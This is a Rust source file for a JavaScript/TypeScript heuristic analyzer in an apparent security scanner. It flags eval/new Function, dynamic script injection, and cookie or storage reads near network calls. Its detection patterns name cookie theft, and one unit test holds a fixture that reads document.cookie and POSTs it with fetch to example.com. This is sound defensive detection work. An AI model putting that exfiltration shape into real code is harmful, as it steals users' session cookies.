use crate::line_index::LineIndex;
use regex::Regex;
use std::sync::OnceLock;
use vigil_common::{Finding, FindingSource, Severity};

/// Lines within which a cookie/storage read and a network call are
/// considered "proximate" for the exfiltration heuristic (spec.md §4.3).
const EXFIL_PROXIMITY_LINES: usize = 80;

/// Two string-aware transforms of the same byte length as the input so
/// offsets (and therefore line numbers) keep meaning after transformation
/// (spec.md §4.3 "JS/TS code analyzer", §9 "iterators / lazy sequences").
///
/// `strip_comments_keep_strings` removes comment bodies (replacing with
/// spaces, preserving newlines) but leaves string contents untouched — used
/// for literal-aware checks like `createElement('script')`.
fn strip_comments_keep_strings(content: &str) -> String {
    transform(content, false)
}

/// `mask_comments_and_strings` additionally blanks string bodies, so
/// structural checks (`eval(`, exfil source/sink keywords) never match text
/// that only happens to live inside a string or comment.
fn mask_comments_and_strings(content: &str) -> String {
    transform(content, true)
}

fn transform(content: &str, mask_strings: bool) -> String {
    #[derive(Clone, Copy, PartialEq)]
    enum State {
        Code,
        Line,
        Block,
        Single,
        Double,
        Template,
    }

    let chars: Vec<char> = content.chars().collect();
    let n = chars.len();
    let mut out = String::with_capacity(content.len());
    let mut state = State::Code;
    let mut escaped = false;
    let mut i = 0;

    while i < n {
        let c = chars[i];
        match state {
            State::Code => {
                if c == '/' && i + 1 < n && chars[i + 1] == '/' {
                    state = State::Line;
                    out.push(' ');
                    out.push(' ');
                    i += 2;
                    continue;
                }
                if c == '/' && i + 1 < n && chars[i + 1] == '*' {
                    state = State::Block;
                    out.push(' ');
                    out.push(' ');
                    i += 2;
                    continue;
                }
                if c == '\'' || c == '"' || c == '`' {
                    state = match c {
                        '\'' => State::Single,
                        '"' => State::Double,
                        _ => State::Template,
                    };
                    escaped = false;
                    out.push(if mask_strings { ' ' } else { c });
                    i += 1;
                    continue;
                }
                out.push(c);
                i += 1;
            }
            State::Line => {
                if c == '\n' {
                    out.push('\n');
                    state = State::Code;
                } else {
                    out.push(' ');
                }
                i += 1;
            }
            State::Block => {
                if c == '*' && i + 1 < n && chars[i + 1] == '/' {
                    out.push(' ');
                    out.push(' ');
                    i += 2;
                    state = State::Code;
                    continue;
                }
                out.push(if c == '\n' { '\n' } else { ' ' });
                i += 1;
            }
            State::Single | State::Double | State::Template => {
                let quote = match state {
                    State::Single => '\'',
                    State::Double => '"',
                    _ => '`',
                };
                if escaped {
                    out.push(if mask_strings && c != '\n' { ' ' } else { c });
                    escaped = false;
                    i += 1;
                    continue;
                }
                if c == '\\' {
                    escaped = true;
                    out.push(if mask_strings { ' ' } else { c });
                    i += 1;
                    continue;
                }
                if c == quote {
                    out.push(if mask_strings { ' ' } else { c });
                    state = State::Code;
                    i += 1;
                    continue;
                }
                out.push(if mask_strings && c != '\n' { ' ' } else { c });
                i += 1;
            }
        }
    }

    out
}

fn eval_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\beval\s*\(|new\s+Function\s*\(").unwrap())
}

fn create_script_element_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"createElement\(\s*['"]script['"]\s*\)"#).unwrap())
}

fn script_src_assign_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\.src\s*=").unwrap())
}

fn exfil_source_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"document\.cookie|localStorage|chrome\.storage|chrome\.cookies").unwrap()
    })
}

fn exfil_sink_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"fetch\(|XMLHttpRequest|new\s+WebSocket").unwrap())
}

pub fn scan(content: &str, file: &str, line_index: &LineIndex) -> Vec<Finding> {
    let mut findings = Vec::new();
    let masked = mask_comments_and_strings(content);
    let literal_aware = strip_comments_keep_strings(content);

    if let Some(m) = eval_re().find(&masked) {
        findings.push(Finding {
            rule_id: "CODE_JS_EVAL_OR_FUNCTION".to_string(),
            severity: Severity::High,
            message: "dynamic code execution via eval() or new Function()".to_string(),
            file: file.to_string(),
            line: Some(line_index.line_at(m.start())),
            category: Some("code_execution".to_string()),
            remediation: Some("Avoid evaluating dynamic strings as code; use explicit dispatch instead.".to_string()),
            source: FindingSource::Heuristic,
            confidence: None,
            confidence_reason: None,
        });
    }

    if create_script_element_re().is_match(&literal_aware) && script_src_assign_re().is_match(&literal_aware) {
        let line = create_script_element_re()
            .find(&literal_aware)
            .map(|m| line_index.line_at(m.start()));
        findings.push(Finding {
            rule_id: "CODE_JS_DYNAMIC_SCRIPT_INJECT".to_string(),
            severity: Severity::High,
            message: "a <script> element is created and its src assigned dynamically".to_string(),
            file: file.to_string(),
            line,
            category: Some("code_execution".to_string()),
            remediation: Some("Avoid dynamically injecting script tags; load code from a fixed, reviewed source.".to_string()),
            source: FindingSource::Heuristic,
            confidence: None,
            confidence_reason: None,
        });
    }

    if let Some(f) = exfil_finding(&masked, file, line_index) {
        findings.push(f);
    }

    findings
}

fn exfil_finding(masked: &str, file: &str, line_index: &LineIndex) -> Option<Finding> {
    let source_matches: Vec<_> = exfil_source_re().find_iter(masked).collect();
    let sink_matches: Vec<_> = exfil_sink_re().find_iter(masked).collect();
    if source_matches.is_empty() || sink_matches.is_empty() {
        return None;
    }

    let source_lines: Vec<usize> = source_matches.iter().map(|m| line_index.line_at(m.start())).collect();
    let sink_lines: Vec<usize> = sink_matches.iter().map(|m| line_index.line_at(m.start())).collect();

    let proximate = source_lines.iter().any(|&sl| {
        sink_lines
            .iter()
            .any(|&kl| sl.abs_diff(kl) <= EXFIL_PROXIMITY_LINES)
    });
    let repeated_both = source_matches.len() > 1 && sink_matches.len() > 1;
    let severity = if proximate || repeated_both {
        Severity::High
    } else {
        Severity::Medium
    };

    Some(Finding {
        rule_id: "CODE_JS_EXFIL_SOURCES_TO_NETWORK".to_string(),
        severity,
        message: "cookie/storage data is read near a network call, a common exfiltration shape".to_string(),
        file: file.to_string(),
        line: Some(source_lines[0]),
        category: Some("network_exfil".to_string()),
        remediation: Some("Confirm why browser storage or cookies are sent over the network, and to where.".to_string()),
        source: FindingSource::Heuristic,
        confidence: None,
        confidence_reason: None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eval_inside_a_string_literal_is_not_flagged() {
        let content = "const msg = \"please eval(this) carefully\";\n";
        let idx = LineIndex::build(content);
        assert!(scan(content, "/a.js", &idx).is_empty());
    }

    #[test]
    fn eval_call_outside_strings_is_flagged() {
        let content = "eval(userInput);\n";
        let idx = LineIndex::build(content);
        let findings = scan(content, "/a.js", &idx);
        assert!(findings.iter().any(|f| f.rule_id == "CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn new_function_is_flagged() {
        let content = "const f = new Function('return 1');\n";
        let idx = LineIndex::build(content);
        let findings = scan(content, "/a.js", &idx);
        assert!(findings.iter().any(|f| f.rule_id == "CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn dynamic_script_injection_needs_both_create_and_src_assign() {
        let only_create = "const s = document.createElement('script');\n";
        let idx = LineIndex::build(only_create);
        assert!(!scan(only_create, "/a.js", &idx)
            .iter()
            .any(|f| f.rule_id == "CODE_JS_DYNAMIC_SCRIPT_INJECT"));

        let both = "const s = document.createElement('script');\ns.src = remoteUrl;\n";
        let idx = LineIndex::build(both);
        assert!(scan(both, "/a.js", &idx)
            .iter()
            .any(|f| f.rule_id == "CODE_JS_DYNAMIC_SCRIPT_INJECT"));
    }

    #[test]
    fn cookie_read_proximate_to_fetch_is_high_severity() {
        let content = "const c = document.cookie;\nfetch(\"https://example.com\",{method:\"POST\",body:c});\n";
        let idx = LineIndex::build(content);
        let findings = scan(content, "/a.js", &idx);
        let exfil = findings
            .iter()
            .find(|f| f.rule_id == "CODE_JS_EXFIL_SOURCES_TO_NETWORK")
            .expect("exfil finding");
        assert_eq!(exfil.severity, Severity::High);
        assert_eq!(exfil.line, Some(1));
    }

    #[test]
    fn source_without_any_sink_is_not_flagged() {
        let content = "const c = document.cookie;\nconsole.log(c);\n";
        let idx = LineIndex::build(content);
        assert!(!scan(content, "/a.js", &idx)
            .iter()
            .any(|f| f.rule_id == "CODE_JS_EXFIL_SOURCES_TO_NETWORK"));
    }

    #[test]
    fn masking_preserves_newline_count_for_line_numbers() {
        let content = "line1\n// comment\nline3 eval(x)\n";
        let masked = mask_comments_and_strings(content);
        assert_eq!(content.matches('\n').count(), masked.matches('\n').count());
    }
}
